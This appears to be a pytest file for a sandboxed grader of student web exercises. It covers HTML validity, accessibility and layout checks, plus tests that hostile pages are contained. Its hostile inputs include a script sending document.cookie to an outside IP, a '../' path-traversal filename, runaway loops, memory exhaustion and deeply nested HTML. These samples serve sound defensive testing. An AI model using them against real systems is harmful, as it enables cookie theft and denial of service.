"""Web exercises (html, dom): parser checks, checks in the sandboxed Chromium, hostile pages."""

import contextlib
import dataclasses
import socket
import struct
import threading
from pathlib import Path

import pytest

from exercises import browser, services
from exercises.grading import grader_for
from exercises.kinds.web import grader as web
from exercises.kinds.web import webstatic
from exercises.models import Screenshot, Submission
from exercises.spec import ExerciseError, read_exercise
from tests.exercises.conftest import EXAMPLES, load_exercise

PAGE = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Essai</title><link rel="stylesheet" href="style.css"></head>
<body><main><h1>Essai</h1>{body}</main></body></html>"""


@pytest.fixture(scope="module")
def card():
    return read_exercise(EXAMPLES / "carte-visite")


@pytest.fixture(scope="module")
def menu():
    return read_exercise(EXAMPLES / "menu-burger")


def grade(spec, files, **kwargs):
    return grader_for(spec.kind)(spec, files, **kwargs)


def with_checks(spec, toml, **changes):
    return dataclasses.replace(spec, tests={"checks.toml": toml}, **changes)


def failures(result):
    return {t.name: t.message for t in result.tests if t.status != "passed"}


# ---------------------------------------------------------------- the examples, end to end


def test_card_solution_passes_and_starter_fails_with_reasons(card):
    assert grade(card, dict(card.solution)).status == "passed"
    result = grade(card, dict(card.starter))
    assert result.status == "failed"
    failed = failures(result)
    assert "« h1 » : 0 élément(s) trouvé(s), attendu : 1." in failed["Un titre principal"]
    assert "Votre nom va dans un seul <h1>." in failed["Un titre principal"]
    # Hidden: only that it failed (and the hint), never the selector or the value looked for.
    hidden = failed["Sur grand écran, les compétences sont sur une ligne"]
    assert hidden.startswith("Vérification cachée") and "flex" not in hidden


def test_public_only_leaves_hidden_checks_out(card):
    result = grade(card, dict(card.solution), public_only=True)
    assert result.status == "passed"
    assert "Sur grand écran, les compétences sont sur une ligne" not in {t.name for t in result.tests}


def test_media_query_counts_at_the_check_width(card):
    css = dict(card.solution)["style.css"].replace("min-width: 48em", "min-width: 90em")
    result = grade(card, {**card.solution, "style.css": css})
    assert set(failures(result)) == {"Sur grand écran, les compétences sont sur une ligne"}


def test_dom_scenarios(menu):
    assert grade(menu, dict(menu.solution)).status == "passed"
    result = grade(menu, dict(menu.starter))
    assert failures(result) == {
        "Un clic sur « Menu » ouvre le menu": "nav#menu devrait être visible.\nUtilisez classList.toggle('ouvert') "
        "dans un écouteur de clic."
    }
    # A script that opens the menu but forgets aria-expanded.
    half = (
        "document.querySelector('#bouton-menu').onclick = () => "
        "document.querySelector('#menu').classList.toggle('ouvert');"
    )
    result = grade(menu, {**menu.solution, "script.js": half})
    assert (
        "aria-expanded de button#bouton-menu vaut « false », attendu « true »"
        in failures(result)["Un clic sur « Menu » ouvre le menu"]
    )


def test_screenshots_at_phone_and_desktop_widths(card):
    result = grade(card, dict(card.solution), artefacts=True)
    shots = result.artefacts["screenshots"]
    assert result.status == "passed"
    assert [w for w, _png in shots] == [375, 1280]
    assert (
        "screenshots" not in grade(card, dict(card.solution), public_only=True, artefacts=True).artefacts
    )  # « Vérifier »
    assert "artefacts" not in result.to_storage() and "artefacts" not in result.to_dict()
    for width, png in shots:
        assert png[:8] == b"\x89PNG\r\n\x1a\n"
        assert struct.unpack(">I", png[16:20])[0] == width


def test_check_course_accepts_web_examples(tmp_path):
    from exercises.management.commands.check_course import check_exercise

    for name in ("carte-visite", "menu-burger"):
        assert check_exercise(EXAMPLES / name) == (True, "passed", "failed")


# ---------------------------------------------------------------- parser checks


def doc(html):
    return webstatic.Document("index.html", html)


def test_validity_problems_come_with_their_line():
    html = (
        "<html>\n<head></head>\n<body>\n<p>Un <b>gras <i>mal</b> fermé</i></p>\n<div id=a></div><div "
        "id=a></div>\n<center>x</center>\n</body></html>"
    )
    problems = webstatic.validity_problems(doc(html))
    text = webstatic.describe(problems, limit=20)
    assert "ligne 1 : <!DOCTYPE html> manquant" in text
    assert "ligne 4 : balises mal imbriquées" in text
    assert 'ligne 5 : l\'identifiant id="a" est utilisé plusieurs fois' in text
    assert "ligne 6 : <center> est un élément obsolète" in text
    assert "n'a pas d'attribut lang" in text and "pas de <title>" in text
    assert webstatic.validity_problems(doc(PAGE.format(body="<p>ok</p>"))) == []


def test_unclosed_element_at_the_end():
    problems = webstatic.validity_problems(doc(PAGE.format(body="<div><p>ouvert").replace("</main></body></html>", "")))
    assert any("n'est pas fermé" in message for _line, message in problems)


@pytest.mark.parametrize(
    "body, expected",
    [
        ('<img src="a.png">', "image sans attribut alt"),
        ('<input id="nom">', "champ de formulaire <input> sans étiquette"),
        ("<h3>Trop bas</h3>", "niveau de titre sauté : <h3> après <h1>"),
        ('<a href="x.html"></a>', "lien sans texte"),
        ("<main>bis</main>", "plusieurs zones principales"),
    ],
)
def test_accessibility_basics(body, expected):
    problems = webstatic.accessibility_problems(doc(PAGE.format(body=body)))
    assert any(expected in message for _line, message in problems), problems


def test_accessible_forms_pass():
    body = (
        '<form><label for="n">Nom</label><input id="n"><label>Ville <input></label>'
        '<input aria-label="Code"><button>Envoyer</button><input type="submit"></form>'
        '<a href="/"><img src="logo.png" alt="Accueil"></a><img src="deco.png" alt="">'
    )
    assert webstatic.accessibility_problems(doc(PAGE.format(body=body))) == []


@pytest.mark.parametrize(
    "check, ok",
    [
        ({"selector": "li", "min": 2}, True),
        ({"selector": "li", "count": 3}, False),
        ({"selector": "table", "absent": True}, True),
        ({"selector": "a", "attribute": "href", "pattern": "^mailto:"}, True),
        ({"selector": "a", "attribute": "href", "value": "contact.html"}, False),
        ({"selector": "a", "attribute": "target"}, False),
        ({"selector": "li", "contains": "deux"}, True),
        ({"selector": "li", "text": "un", "all": True}, False),
        ({"selector": "li", "inside": "nav"}, True),
        ({"selector": "h1", "inside": "nav"}, False),
    ],
)
def test_element_checks(check, ok):
    page = doc(PAGE.format(body='<nav><ul><li>un</li><li>deux</li></ul></nav><a href="mailto:a@b.fr">écrire</a>'))
    assert (webstatic.element_problem(page, check) is None) == ok


def test_invalid_checks_are_reported_with_their_line():
    toml = (
        '[[check]]\ntype = "element"\nname = "a"\nselector = "li"\n\n[[check]]\ntype = "colour"\nname = '
        '"b"\n\n[[check]]\ntype = "element"\nname = "c"\nselector = "li[["\n'
    )
    with pytest.raises(ExerciseError) as raised:
        web.read_checks(toml)
    assert raised.value.errors[0].startswith("tests/checks.toml:6: « type » doit valoir")
    assert raised.value.errors[1].startswith("tests/checks.toml:10: sélecteur CSS invalide")


def test_exercise_folder_without_checks_is_refused(tmp_path):
    folder = tmp_path / "page"
    (folder / "solution").mkdir(parents=True)
    (folder / "exercise.toml").write_text('title = "Page"\nkind = "html"\n')
    (folder / "solution" / "index.html").write_text(PAGE.format(body=""))
    with pytest.raises(ExerciseError) as raised:
        read_exercise(folder)
    assert "checks.toml:1: fichier manquant" in raised.value.errors[0]


# ---------------------------------------------------------------- browser checks


STYLE_CHECKS = """
[[check]]
type = "contrast"
name = "Contraste"
selector = "p"

[[check]]
type = "layout"
name = "Pas de défilement"
no_horizontal_scroll = true
width = 375

[[check]]
type = "style"
name = "Marge"
selector = "p"
property = "padding-top"
min = 16
"""


def test_contrast_scroll_and_numeric_style(card):
    spec = with_checks(card, STYLE_CHECKS)
    good = {
        "index.html": PAGE.format(body="<p>Lisible</p>"),
        "style.css": "p { color: #333; background: #fff; padding: 1rem; }",
    }
    assert grade(spec, good).status == "passed"
    bad = {
        "index.html": PAGE.format(body='<p>Pâle</p><div style="width: 600px">large</div>'),
        "style.css": "p { color: #aaa; padding: 4px; }",
    }
    failed = failures(grade(spec, bad))
    assert failed["Contraste"].startswith("Contraste de p : 2.32:1, il faut au moins 4.5:1.")
    assert "À 375 px, la page défile horizontalement (608 px de large ; en cause : div)." in failed["Pas de défilement"]
    assert "padding-top de p vaut « 4px », attendu au moins 16" in failed["Marge"]


def test_axe_scan(card):
    spec = with_checks(card, '[[check]]\ntype = "axe"\nname = "Audit axe"\n')
    assert grade(spec, {"index.html": PAGE.format(body="<p>ok</p>")}).status == "passed"
    result = grade(spec, {"index.html": PAGE.format(body='<img src="x.png"><button></button>')})
    assert "image-alt" in failures(result)["Audit axe"] and "button-name" in failures(result)["Audit axe"]


# ---------------------------------------------------------------- hostile pages


LAYOUT = '[[check]]\ntype = "layout"\nname = "Visible"\nselector = "h1"\nvisible = true\n'


@pytest.fixture
def quick(card):
    return with_checks(card, LAYOUT, time_limit=2)


def page_with_script(script):
    return {"index.html": PAGE.format(body=f"<script>{script}</script>")}


@pytest.mark.parametrize(
    "script, reason, words",
    [
        ("while (true) {}", "timeout", "boucle infinie"),
        ("while (true) { alert('coucou'); }", "timeout", "alert()"),
        ("const a = []; while (true) { a.push(new Array(1e6).fill(1.5)); }", "memory", "mémoire"),
    ],
)
def test_hostile_pages_end_with_a_clear_message_and_the_browser_recovers(quick, script, reason, words):
    result = grade(quick, page_with_script(script))
    assert (result.status, result.reason) == ("error", reason)
    assert words in result.message
    assert grade(quick, {"index.html": PAGE.format(body="")}).status == "passed"


def test_other_sites_are_blocked_and_reported(quick):
    body = (
        '<img src="https://example.com/pixel.png" alt=""><script>fetch("http://10.0.0.1/vol?c=" + '
        "document.cookie)</script>"
    )
    result = grade(quick, {"index.html": PAGE.format(body=body)})
    assert result.status == "passed"
    assert "Ressources bloquées" in result.message and "https://example.com/pixel.png" in result.message


def test_the_browser_has_no_network_even_without_interception(quick):
    """WebSockets are not intercepted by the page's routing: the sandbox's network namespace stops them."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted = []

    def accept():
        with contextlib.suppress(OSError):
            accepted.append(server.accept())

    script = f"const ws = new WebSocket('ws://127.0.0.1:{port}/'); ws.onerror = () => document.title = 'refusé';"
    result = grade(quick, {"index.html": PAGE.format(body=f"<script>{script}</script>")})
    thread = threading.Thread(target=accept)
    thread.start()
    thread.join()
    server.close()
    assert result.status == "passed" and accepted == []


def test_the_browser_runs_under_the_slot_uid_not_root(quick):
    assert grade(quick, {"index.html": PAGE.format(body="")}).status == "passed"
    uid = browser.BROWSER.slot.uid
    root = int((browser.BROWSER.folder / "pid").read_text())  # bubblewrap, started by our wrapper
    parents = {}
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                parents[int(proc.name)] = int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue

    def under_bwrap(pid):
        while pid > 1:
            pid = parents.get(pid, 0)
            if pid == root:
                return True
        return False

    owners = set()
    for pid in parents:
        try:
            command = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0]
            if command.endswith(b"/chromium") and under_bwrap(pid):
                owners.add(Path(f"/proc/{pid}").stat().st_uid)
        except OSError:
            continue
    assert owners == {uid}


def test_a_killed_browser_is_started_again(quick):
    grade(quick, {"index.html": PAGE.format(body="")})
    browser.BROWSER.kill()
    assert grade(quick, {"index.html": PAGE.format(body="")}).status == "passed"


@pytest.mark.parametrize(
    "files, words",
    [
        ({"index.html": "x" * (1024 * 1024 + 1)}, "dépasse 1 Mio"),
        ({"photo.png": b"\x89PNG\r\n\x1a\n\x00\x00"}, "Type de fichier non accepté"),
        ({"index.html": b"\xff\xfe\x00binaire"}, "n'est pas du texte UTF-8"),
        ({"../index.html": "<p>"}, "Nom de fichier refusé"),
    ],
)
def test_refused_submissions(quick, files, words):
    result = grade(quick, files)
    assert (result.status, result.reason) == ("error", "refused") and words in result.message


# ---------------------------------------------------------------- through the pipeline


def test_graded_submission_keeps_its_screenshots_a_check_does_not(
    module, trainee, eager, django_capture_on_commit_callbacks
):
    exercise = load_exercise(module, "carte-visite")
    with django_capture_on_commit_callbacks(execute=True):
        check = services.submission_create(
            exercise=exercise, learner=trainee, mode=Submission.Mode.CHECK, files=dict(exercise.solution)
        )
        submitted = services.submission_create(
            exercise=exercise, learner=trainee, mode=Submission.Mode.SUBMIT, files=dict(exercise.solution)
        )
    check.refresh_from_db()
    submitted.refresh_from_db()
    assert (check.status, submitted.status) == ("passed", "passed")
    assert not Screenshot.objects.filter(submission=check).exists()
    assert list(Screenshot.objects.filter(submission=submitted).values_list("width", flat=True)) == [375, 1280]


def test_grade_command_refuses_a_100_mb_image_without_reading_it(tmp_path, capsys):
    import json

    from django.core.management import call_command

    submission = tmp_path / "site"
    submission.mkdir()
    (submission / "index.html").write_text(PAGE.format(body='<img src="photo.png" alt="">'))
    with open(submission / "photo.png", "wb") as image:
        image.truncate(100 * 1024 * 1024)  # sparse: 100 MB on paper
    call_command("grade", str(EXAMPLES / "carte-visite"), str(submission))
    result = json.loads(capsys.readouterr().out)
    assert (result["status"], result["reason"]) == ("error", "refused") and "dépasse 1 Mio" in result["message"]


def test_grade_command_writes_the_screenshots_it_is_asked_for(card, tmp_path, capsys):
    import json

    from django.core.management import call_command

    submission = tmp_path / "site"
    submission.mkdir()
    for name, text in card.solution.items():
        (submission / name).write_text(text)
    call_command("grade", str(EXAMPLES / "carte-visite"), str(submission), "--screenshots", str(tmp_path / "shots"))
    assert json.loads(capsys.readouterr().out)["status"] == "passed"
    assert sorted(p.name for p in (tmp_path / "shots").iterdir()) == ["page-1280.png", "page-375.png"]


LAYOUT_CHECKS = """
[[check]]
type = "layout"
name = "Titre caché"
selector = "h1"
visible = false

[[check]]
type = "layout"
name = "Bandeau visible"
selector = ".bandeau"
visible = true

[[check]]
type = "layout"
name = "Large dans l'écran"
selector = ".large"
in_viewport = true

[[check]]
type = "scenario"
name = "Le titre a la bonne forme"
expect = [{ selector = "h1", pattern = "^zzz$" }, { selector = "main", attribute = "class", pattern = "^x" }]
"""


def test_layout_checks_judge_each_element(card):
    spec = with_checks(card, LAYOUT_CHECKS)
    body = '<p class="bandeau" style="display: none">b</p><div class="large" style="width: 3000px">l</div>'
    failed = failures(grade(spec, {"index.html": PAGE.format(body=body)}))
    assert failed["Titre caché"] == "À 1280 px, h1 devrait être caché."
    assert failed["Bandeau visible"] == "À 1280 px, p.bandeau n'est pas visible."
    assert failed["Large dans l'écran"] == "À 1280 px, div.large dépasse de l'écran."
    assert "n'a pas la forme attendue" in failed["Le titre a la bonne forme"]


def test_value_without_attribute_is_refused():
    with pytest.raises(ExerciseError) as raised:
        web.read_checks('[[check]]\ntype = "scenario"\nname = "x"\nexpect = [{ selector = "input", value = "a" }]\n')
    assert "field_value" in raised.value.errors[0]
    with pytest.raises(ExerciseError):
        web.read_checks('[[check]]\ntype = "element"\nname = "x"\nselector = "input"\nvalue = "a"\n')


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,  # html5lib's tree building turns quadratic: minutes, if parsed
        "<b><i>" * 100_000,
        "<table><tr><td>" * 80 + "<b>x" * 4000,
        "<p>" + "a&amp;" * 100_000,
    ],
)
def test_crafted_documents_are_refused_before_parsing(card, html):
    spec = with_checks(
        card, '[[check]]\ntype = "valid"\nname = "Valide"\n\n[[check]]\ntype = "accessible"\nname = "Accessible"\n'
    )
    result = grade(spec, {"index.html": html})
    assert result.status == "failed"
    assert all("trop gros ou trop imbriqué" in t.message for t in result.tests)


def test_a_parse_that_outlives_its_time_is_stopped():
    import time

    with pytest.raises(webstatic.ParseTimeout), webstatic.time_limit(0.2):
        while True:
            time.sleep(0.01)
